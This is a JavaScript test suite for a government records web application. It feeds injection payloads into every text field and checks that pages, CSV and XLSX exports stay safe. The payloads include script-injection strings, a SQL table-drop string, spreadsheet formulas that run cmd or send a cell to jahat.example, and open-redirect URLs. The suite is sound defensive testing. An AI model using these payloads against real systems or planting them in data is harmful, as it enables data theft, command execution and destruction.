// Signs that mean something to SQL, HTML or a spreadsheet, in every text field of some registers: stored as typed, shown escaped, exported harmless.

import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { forgetTemplates, freshPlace } from '../support/governments.mjs';
import { mustRun, temporaryFolder } from '../support/program.mjs';
import { unzip } from '../support/xlsx.mjs';

let place;
let api;
let folder;

before(async () => {
  place = await freshPlace(['kediri']);
  await place.serve();
  api = place.api('kediri', 'kominfo');
  folder = await temporaryFolder();
});
after(async () => {
  await place.close();
  await forgetTemplates();
});

const payloads = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE application; --",
  '=HYPERLINK("http://jahat.example?"&A1,"klik")',
  '+cmd|\' /C calc\'!A0',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '{{constructor.constructor("alert(1)")()}}',
  '${7*7} {{NAME}} {{#SECTION}}',
  '%s %n %x',
  '\u202Etxt.exe',
  '[klik](javascript:alert(1)) <b>tebal</b>',
  'a & b &lt; c &#60;script&#62;',
];

/** Fields that hold what is typed, with a payload each. */
function filled(schema, payload) {
  const fields = {};
  for (const field of schema.fields.filter((each) => !each.implicit && !each.pattern)) {
    const text = `${payload} ${field.name}`.slice(0, field.max_length || 4_000);
    if (field.type === 'text' || field.type === 'long_text') {
      fields[field.name] = text;
    } else if (field.type === 'list') {
      fields[field.name] = [text];
    } else if (field.type === 'parts' && field.choices?.length) {
      fields[field.name] = [{ item: field.choices[0].code, text: payload, number: payload.slice(0, 40) }];
    } else if (field.type === 'lines') {
      const column = field.columns.find(({ type }) => type === 'text' || type === 'long_text');
      if (column) {
        fields[field.name] = [{ [column.name]: payload }];
      }
    } else if (field.required && field.type === 'choice') {
      fields[field.name] = field.choices.find(({ allowed }) => allowed).code;
    } else if (field.required && field.type === 'reference' && field.to === 'agency') {
      fields[field.name] = 'PD-002';
    }
  }
  return fields;
}

/** What of a page's source would run, if the payload came through as it is. */
function runs(html, payload) {
  const dangerous = ['<script>alert(1)', '<img src=x', 'href="javascript:', "href='javascript:", 'onerror=alert(1)>'];
  return dangerous.filter((sign) => html.includes(sign)).concat(html.includes(`"${payload}"`) && payload.includes('"') ? ['quote'] : []);
}

for (const register of ['application', 'letter', 'person', 'service', 'incident', 'contract', 'domain_name', 'checklist']) {
  test(`every text field of ${register}`, { timeout: 120_000 }, async () => {
    const schema = (await api.get(`registers/${register}`)).must().json;
    const made = [];
    for (const payload of payloads) {
      const fields = filled(schema, payload);
      const { id } = (await api.create(register, fields)).must().json;
      made.push({ id, payload, fields });
      const back = (await api.record(register, id)).must().json.fields;
      for (const [name, value] of Object.entries(fields)) {
        if (typeof value === 'string') {
          assert.equal(back[name], value.trim(), `${register}.${name}`);
        }
      }
      for (const path of [`registers/${register}/${id}`, `registers/${register}/${id}/edit`]) {
        const page = await api.send('GET', `${api.address}/${path}`, { headers: { accept: 'text/html' } });
        assert.equal(page.status, 200, page.text.slice(0, 500));
        assert.deepEqual(runs(page.text, payload), [], `${path}: ${payload}`);
      }
    }
    const list = await api.send('GET', `${api.address}/registers/${register}`, { headers: { accept: 'text/html' } });
    assert.equal(list.status, 200);
    assert.ok(payloads.every((payload) => runs(list.text, payload).length === 0));

    const csv = join(folder, `${register}.csv`);
    await mustRun(['export', ...place.common, '--government', 'kediri', register, csv]);
    const text = await readFile(csv, 'utf8');
    assert.doesNotMatch(text, /(^|[,;\t\n])"?[=+@][A-Za-z]/, 'a cell would be run as a formula');
    assert.doesNotMatch(text, /(^|[,;\t\n])"?-2\+3/, 'a cell would be run as a formula');

    const book = join(folder, `${register}.xlsx`);
    await mustRun(['export', ...place.common, '--government', 'kediri', register, book]);
    const entries = unzip(await readFile(book));
    const sheets = Object.entries(entries).filter(([name]) => name.startsWith('xl/worksheets/'));
    assert.ok(sheets.length > 0 && sheets.every(([, xml]) => !xml.includes('<f>') && !xml.includes('<hyperlink')), 'a formula or link in the workbook');
    assert.ok((await api.get(`records/${register}?limit=200`)).must().json.records.length >= made.length, 'the table is there');
  });
}

test('what was exported comes back the same', async () => {
  const file = join(folder, 'kembali.jsonl');
  await mustRun(['export', ...place.common, '--government', 'kediri', 'application', file]);
  const said = await mustRun(['import', ...place.common, '--government', 'kediri', 'application', file]);
  assert.match(said, /: 0 baru, 0 diubah/);
  const csv = join(folder, 'kembali.csv');
  await mustRun(['export', ...place.common, '--government', 'kediri', 'person', csv]);
  assert.match(await mustRun(['import', ...place.common, '--government', 'kediri', 'person', csv]), /: 0 baru, 0 diubah/);
});

test('comments and searches are shown escaped', async () => {
  const { id } = (await api.create('application', { name: 'Antrean', owner: 'PD-002' })).must().json;
  (await api.post(`records/application/${id}/comments`, { text: '<script>alert(1)</script>' })).must();
  for (const path of [`registers/application/${id}`, 'registers/application?q=%3Cscript%3Ealert(1)%3C/script%3E', 'regulation/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
    'sign-in?back=javascript:alert(1)', 'sign-in?back=//jahat.example/', 'registers/%3Cscript%3Ealert(1)%3C%2Fscript%3E']) {
    const page = await api.send('GET', `${api.address}/${path}`, { headers: { accept: 'text/html' } });
    assert.deepEqual(runs(page.text, ''), [], path);
    assert.doesNotMatch(page.headers.get('location') ?? '', /jahat|javascript/, path);
  }
});

test('pages forbid inline scripts', async () => {
  const page = await api.send('GET', `${api.address}/registers/application`, { headers: { accept: 'text/html' } });
  const policy = page.headers.get('content-security-policy') ?? '';
  assert.match(policy, /default-src 'none'|default-src 'self'/);
  assert.doesNotMatch(policy, /unsafe-inline|unsafe-eval|\*/);
  assert.doesNotMatch(page.text, /<script(?![^>]*\bsrc=)[^>]*>[^<]|\son[a-z]+="/i);
  assert.match(page.headers.get('x-content-type-options') ?? '', /nosniff/);
});
